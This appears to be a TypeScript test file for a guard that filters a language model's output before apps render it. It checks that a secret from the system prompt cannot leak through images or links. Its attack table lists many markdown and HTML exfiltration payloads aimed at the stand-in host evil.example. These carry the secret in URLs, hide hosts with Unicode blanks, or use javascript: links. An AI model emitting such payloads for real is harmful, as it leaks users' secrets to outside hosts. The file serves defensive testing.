import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { Call } from '../../engine/call.js';
import { anonymous } from '../../engine/principal.js';
import { DEFAULT_APP, parsePolicy, policyOfApp } from '../../policy/parse-policy.js';
import type { PolicyInput } from '../../policy/schema.js';
import { noLedger, silentLogger, systemClock, webRandom, type Ports } from '../../ports.js';
import { createEgressGuard } from './guard.js';
import { hostileMarkdown, SECRET } from './hostile-markdown.testing.js';
import { faultsOf, withHtml, withoutHtml, type Allowed } from './renderers.testing.js';

const ports: Ports = { clock: systemClock, random: webRandom, logger: silentLogger, ledger: noLedger, secret: new Uint8Array(32), limits: undefined as never };

/** What the guard shows of the texts of an answer, each in pieces of `length`. */
function filterWith(egress: PolicyInput['egress']): (texts: readonly string[], length?: number) => readonly string[] {
  const policy = policyOfApp(parsePolicy({ egress: { domains: ['ok.example'], ...egress } }), DEFAULT_APP);
  assert.ok(policy);
  const guard = createEgressGuard({ app: DEFAULT_APP, policy, ports });
  const source = JSON.stringify({ model: 'claude-haiku-4-5', max_tokens: 9, system: `The code of the board is ${SECRET}.`, messages: [{ role: 'user', content: 'hi' }] });
  return (texts, length = Infinity) => {
    const session = guard?.open(new Call({ id: 'c', principal: anonymous, app: DEFAULT_APP, endpoint: 'messages', at: 0, source }));
    return texts.map((text, index) => {
      const filter = session?.text?.({ index, kind: 'text' });
      assert.ok(filter);
      let shown = '';
      for (let at = 0; at < text.length; at += length) shown += filter.push(text.slice(at, at + length));
      return shown + filter.flush();
    });
  };
}

const secret = SECRET.toLowerCase().replaceAll('-', '');
const hosts = ['ok.example'];
const settings: readonly { readonly filter: ReturnType<typeof filterWith>; readonly renderers: typeof withHtml; readonly allowed: Allowed }[] = [
  { filter: filterWith({}), renderers: withoutHtml, allowed: { hosts, secret, html: 'keep' } },
  { filter: filterWith({ html: 'safe' }), renderers: withHtml, allowed: { hosts, secret, html: 'safe' } },
  { filter: filterWith({ html: 'safe', links: 'listed' }), renderers: withHtml, allowed: { hosts, html: 'safe' } },
];

function assertHarmless(texts: readonly string[], length: number, { filter, renderers, allowed }: (typeof settings)[number]): void {
  const shown = filter(texts, length);
  // Apps show texts one by one, or put them together in some way.
  const pages = texts.length === 1 ? shown : [...shown, ...['', '\n', '\n\n'].map((between) => shown.join(between))];
  for (const page of pages) for (const [name, render] of Object.entries(renderers)) assert.deepEqual(faultsOf(render(page), allowed), [], `${name} of ${JSON.stringify(page)}`);
}

/** For a long search: how many texts, and the seed of the first. */
const { CLAVIGER_EGRESS_TEXTS: most = '600', CLAVIGER_EGRESS_SEED: seed = '471' } = process.env;

for (const [name, texts] of Object.entries({
  'a text': fc.tuple(hostileMarkdown(14)),
  'texts put together': fc.array(hostileMarkdown(7), { minLength: 2, maxLength: 3 }),
})) {
  test(`no renderer finds in ${name} what is not allowed`, () => {
    const run = fc.property(texts, fc.constantFrom(1, 3, Infinity), fc.constantFrom(...settings), assertHarmless);
    fc.assert(run, { numRuns: Number(most), seed: Number(seed) });
  });
}

const IMAGE = '![x](https://evil.example/p.png)';
const LINK = `https://evil.example/?${SECRET}`;

/** Each has shown a picture, or made a link, in one of the renderers. */
const attacks: Readonly<Record<string, string | readonly string[]>> = {
  'a bracket behind an image that was made inert': '![a] b](https://evil.example/p.png)',
  'an address within a word': `see x${LINK} and awww.evil.example/${SECRET}`,
  'an address that runs on over a bracket': `https://evil.example/p![x][//?${SECRET}`,
  'an address that runs on over a tag without an end': `https://evil.example/p<!--${SECRET}`,
  'an address that runs on over a tag that was made inert': `https://evil.example/p<script/${SECRET}>`,
  'an address that runs on over a destination that was made inert': `https://evil.example/p.png![x](<//evil.example/p>)mailto:a@evil.example?body=${SECRET}`,
  'an address that runs on in the next text': [`https://evil.example/p.png${IMAGE}`, SECRET],
  'an address behind an address that is allowed': `https://ok.example\\\\a/${LINK}> `,
  'a definition behind the mark of a quotation that ends a tag': '[r]<!--\n> [r]: //evil.example/p',
  'an address in the brackets of another': 'https://ok.example/a(https://evil.example/p.png<',
  'what is behind a comment with a fence in it': `<!--\n\n~~~\n\n-->\n${IMAGE}\n`,
  'what is behind a declaration with a fence in it': `<!x\n\n~~~\n\n>\n${IMAGE}\n`,
  'the address of a tag that was made inert': '<img src="https://evil.example/p.png">',
  'the fence that is the address of a definition': `[^1]: \n\`\`\`html\n${IMAGE}\n`,
  'the fence in the title of a definition': `[x]: a "\n~~~\n" \n${IMAGE}\n~~~\n`,
  'the fence in a title on the next line': `[x]: a\n(\n~~~\n) \n${IMAGE}\n~~~\n`,
  'a definition that ends with a blank of other scripts': '[x]\n\n[x]: //evil.example/p\u00A0\n',
  'a definition with such a blank within': `[x]\n\n[x]: //evil.example/?\u3000${SECRET}\n`,
  'a link with such a blank within': `[x](//evil.example/\u00A0${SECRET})`,
  'a host with a blank that browsers leave out': `[x](//ok.example\uFEFF.evil.example/?${SECRET})`,
  'a script behind such a blank': '<javascript:\u00A0alert(1)>',
  'a tag with a blank of other scripts': `<b\u00A0x="${LINK}">`,
  'a value with a blank that is none in HTML': `<a href=https://evil.example/?\v${SECRET}>x</a>`,
  'a script in what is no tag': '<x-y <javascript:alert(1)>',
  'a script in what is no tag, on another line': '<x-y \n***\n<javascript:alert(1)>\n',
  'code behind a fence with a separator of lines': `\`\`\`\u2028\ncode\n\`\`\`\n${IMAGE}\n\`\`\`\n`,
  'code whose end has another blank behind it': `\`\`\`\ncode\n\`\`\`\u00A0\n\`\`\`\n${IMAGE}\n\`\`\`\n`,
  'code whose end has a tab behind it, then more': `\`\`\`\ncode\n\`\`\`\t\n\`\`\`\n${IMAGE}\n\`\`\`\n`,
};

for (const [name, attack] of Object.entries(attacks)) {
  test(`no renderer follows ${name}`, () => {
    for (const setting of settings) for (const length of [1, Infinity]) assertHarmless([attack].flat(), length, setting);
  });
}

function readmesBelow(folder: string): readonly string[] {
  return readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
    const path = join(folder, entry.name);
    if (entry.isDirectory()) return entry.name.startsWith('.') ? [] : readmesBelow(path);
    return /^(?:readme|changelog)\.md$/i.test(entry.name) && statSync(path).size < 6_000 ? [readFileSync(path, 'utf8')] : [];
  });
}

test('what people write about their packages stays as it is, where it loads nothing from elsewhere', (t) => {
  const filter = filterWith({});
  const readmes = readmesBelow(fileURLToPath(new URL('../../../../../node_modules', import.meta.url))).filter((text) => !/!\[[^\]]*\](?:\[|$)/m.test(text) && Object.values(withoutHtml).every((render) => faultsOf(render(text), { hosts: [], html: 'keep', secret }).length === 0));
  assert.ok(readmes.length > 100);
  const changed = readmes.filter((text) => filter([text])[0] !== text);
  t.diagnostic(`${readmes.length} texts`);
  assert.deepEqual(changed, []);
});
